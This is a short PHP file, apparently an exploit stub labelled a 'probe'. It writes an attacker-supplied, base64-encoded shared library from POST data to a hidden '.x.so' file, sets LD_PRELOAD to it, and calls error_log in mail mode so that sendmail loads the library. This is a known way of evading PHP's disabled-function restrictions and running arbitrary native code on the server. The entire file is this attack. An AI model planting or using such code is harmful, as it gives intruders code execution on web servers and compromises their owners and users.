<?php
// probe (never run): the preload given through sprintf
$lib = dirname(__FILE__) . '/.x.so';
file_put_contents($lib, base64_decode($_POST['l']));
putenv(sprintf('%s=%s', 'LD_PRELOAD', $lib));
error_log('', 1, 'root');
